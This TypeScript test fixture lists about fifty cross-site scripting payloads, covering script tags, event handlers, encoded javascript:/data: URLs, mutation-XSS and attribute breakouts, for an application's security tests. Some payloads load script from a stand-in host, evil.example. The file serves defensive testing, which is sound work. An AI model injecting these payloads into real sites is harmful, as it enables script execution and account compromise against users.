/**
 * Cross-site scripting payloads an editor (or a leaked token) could type into any text
 * field: the classics of the OWASP XSS filter evasion cheat sheet, entity-, percent- and
 * unicode-encoded variants, and `javascript:` / `data:` / `vbscript:` URLs for links.
 * Shared by the HTTP security tests and (later) browser tests; every payload fits the
 * shortest field it is typed into (`fieldworkPeriod`, 120 characters) and contains no
 * U+0000 (refused on write, see tests/security/fuzz-writes.test.ts).
 */
export interface XssVector {
  name: string;
  payload: string;
}

export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'external script, upper case', payload: '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>' },
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img javascript src', payload: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img mixed-case scheme', payload: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'img entity quotes', payload: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { name: 'img backtick src', payload: '<IMG SRC=`javascript:alert("XSS")`>' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'script inside svg', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'attribute breakout into script', payload: '"><script>alert(1)</script>' },
  { name: 'single-quote breakout into img', payload: "'><img src=x onerror=alert(1)>" },
  { name: 'double-quote event handler', payload: '" onmouseover="alert(1)' },
  { name: 'single-quote autofocus handler', payload: "' onfocus='alert(1)' autofocus='" },
  { name: 'backtick breakout', payload: '` onmouseover=`alert(1)' },
  { name: 'javascript URL', payload: 'javascript:alert(1)' },
  { name: 'mixed-case javascript URL', payload: 'JaVaScRiPt:alert(1)' },
  { name: 'tab inside scheme', payload: 'java\tscript:alert(1)' },
  { name: 'newline inside scheme', payload: 'java\nscript:alert(1)' },
  { name: 'leading space and control character', payload: ' \u0001javascript:alert(1)' },
  { name: 'decimal entity scheme', payload: '&#106;avascript:alert(1)' },
  { name: 'hex entity scheme', payload: '&#x6A;avascript:alert(1)' },
  {
    name: 'padded decimal entities',
    payload: '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  },
  { name: 'data URL with base64 script', payload: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { name: 'vbscript URL', payload: 'vbscript:msgbox("XSS")' },
  { name: 'iframe javascript src', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>alert(1)</script>">' },
  { name: 'unicode-escaped script (as typed)', payload: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { name: 'entity-encoded script (double decoding)', payload: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'percent-encoded script', payload: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  { name: 'fullwidth brackets', payload: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e' },
  { name: 'link with &colon;', payload: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'link with tab entity', payload: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'body onload', payload: '<body onload=alert(1)>' },
  { name: 'mXSS math/mglyph/style', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus', payload: '<input autofocus onfocus=alert(1)>' },
  { name: 'object data', payload: '<object data="javascript:alert(1)">' },
  { name: 'embed data URL', payload: '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">' },
  { name: 'style url()', payload: '<div style="background:url(javascript:alert(1))">' },
  { name: 'nested script filter evasion', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'comment confusion', payload: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'closing script (JSON-LD breakout)', payload: '</script><script>alert(1)</script>' },
  { name: 'JS string breakout', payload: '\\";alert(1);//' },
  { name: 'line separators', payload: 'alert(1)\u2028\u2029' },
  { name: 'protocol-relative URL', payload: '//evil.example/x' },
  { name: 'backslash URL', payload: '/\\evil.example/x' },
  { name: 'https URL breaking out of the attribute', payload: 'https://example.org/"><script>alert(1)</script>' },
  { name: 'https URL with credentials', payload: 'https://trusted.example@evil.example/' },
];

/** Payloads that are (or try to pass as) URLs, for link fields such as `sourceUrl` and `link`. */
export const URL_VECTORS: readonly string[] = XSS_VECTORS.map((v) => v.payload).filter((p) =>
  /^(\s|\u0001)*(java|vb|data|&#|jav|\/\/|\/\\|https?:)/i.test(p),
);
